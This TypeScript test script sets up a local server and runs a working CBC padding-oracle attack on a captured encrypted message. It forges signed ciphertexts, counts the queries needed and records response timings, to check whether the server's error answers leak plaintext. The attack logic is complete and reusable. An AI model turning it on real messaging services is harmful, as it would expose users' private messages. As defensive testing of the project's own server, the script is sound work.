/**
 * The decryption oracle: with only the Token (brute-forceable offline from one signed URL), an
 * attacker signs ciphertexts of their own making and watches how the server refuses them. A
 * classic CBC padding-oracle attack on one 16-byte block of a captured safe-mode message
 * counts the queries it needs. When every refusal looks the same, the attack finds nothing
 * (it gives up after 256 queries on a byte without a distinguishable answer).
 */
import { createDecipheriv, randomInt } from 'node:crypto'
import { decodeAesKey } from '../../src/pipeline/crypto.js'
import { sha1Sorted } from '../../src/pipeline/signature.js'
import { signedRequest } from '../../src/testing/signed-request.js'
import { sampleXml } from '../../src/testing/samples.js'
import { AES_KEY, APP_ID, TOKEN, startFiguresServer } from './common.js'

const server = await startFiguresServer()
let queries = 0
const answers = new Map<string, number>()
const timings = new Map<string, number[]>()

/** Sends `cipher` as a correctly signed safe-mode message; returns "status body". */
async function ask(cipher: Buffer): Promise<string> {
  queries++
  const timestamp = String(Math.floor(Date.now() / 1000))
  const nonce = String(randomInt(1e8, 2e9))
  const encrypt = cipher.toString('base64')
  const query = new URLSearchParams({ signature: sha1Sorted([TOKEN, timestamp, nonce]), timestamp, nonce, encrypt_type: 'aes', msg_signature: sha1Sorted([TOKEN, timestamp, nonce, encrypt]) })
  const started = process.hrtime.bigint()
  const res = await fetch(`${server.url}?${query}`, { method: 'POST', body: `<xml><ToUserName><![CDATA[gh_x]]></ToUserName><Encrypt><![CDATA[${encrypt}]]></Encrypt></xml>` })
  const answer = `${res.status} ${(await res.text()).trim()}`
  const micros = Number(process.hrtime.bigint() - started) / 1000
  answers.set(answer, (answers.get(answer) ?? 0) + 1)
  timings.set(answer, [...(timings.get(answer) ?? []), micros])
  return answer
}

try {
  const captured = signedRequest({ token: TOKEN, encodingAESKey: AES_KEY, appId: APP_ID, mode: 'safe', xml: sampleXml('text', { Content: '我的银行卡密码是 123456，请保密' }) })
  const encrypt = /<Encrypt><!\[CDATA\[([^\]]+)\]\]>/.exec(captured.body)![1]!
  const cipher = Buffer.from(encrypt, 'base64')
  const target = 2 // the third block: message text
  const previous = cipher.subarray((target - 1) * 16, target * 16)
  const block = cipher.subarray(target * 16, (target + 1) * 16)
  // the padding-error answer: a ciphertext whose last byte decrypts to 0 is always a padding error
  const baseline = new Set<string>()
  const intermediate = Buffer.alloc(16)
  const started = Date.now()
  let gaveUp = false
  for (let position = 15; position >= 0 && !gaveUp; position--) {
    const pad = 16 - position
    const forgedPrevious = Buffer.alloc(16)
    for (let k = position + 1; k < 16; k++) forgedPrevious[k] = intermediate[k]! ^ pad
    let found = false
    const answersForByte = new Set<string>()
    for (let guess = 0; guess < 256 && !found; guess++) {
      forgedPrevious[position] = guess
      const answer = await ask(Buffer.concat([forgedPrevious, block]))
      answersForByte.add(answer)
      if (baseline.size === 0) baseline.add(answer)
      if (!baseline.has(answer)) {
        // confirm it is the 0x01.. pad, not a longer one that happened to fit (only for the last byte)
        if (position === 15) {
          const check = Buffer.from(forgedPrevious)
          check[14] = check[14]! ^ 0xff
          if (baseline.has(await ask(Buffer.concat([check, block])))) continue
        }
        intermediate[position] = guess ^ pad
        found = true
      }
    }
    if (!found) {
      gaveUp = true
      console.log(`byte ${position}: 256 queries, ${answersForByte.size} distinct answer(s) — no oracle; the attack gives up`)
    }
  }
  const elapsed = Date.now() - started
  const iv = decodeAesKey(AES_KEY).subarray(0, 16)
  const truth = createDecipheriv('aes-256-cbc', decodeAesKey(AES_KEY), iv).setAutoPadding(false).update(cipher).subarray(target * 16, (target + 1) * 16)
  const recovered = Buffer.from(intermediate.map((b, i) => b ^ previous[i]!))
  console.log(gaveUp ? 'block NOT recovered' : `block recovered: ${JSON.stringify(recovered.toString('utf8'))} (correct: ${recovered.equals(truth)})`)
  console.log(`queries: ${queries}, time: ${elapsed} ms`)
  for (const [answer, count] of answers) {
    const t = timings.get(answer)!.sort((a, b) => a - b)
    console.log(`answer ${JSON.stringify(answer)}: ${count} times, median ${t[Math.floor(t.length / 2)]!.toFixed(0)} µs`)
  }
} finally {
  await server.stop()
}
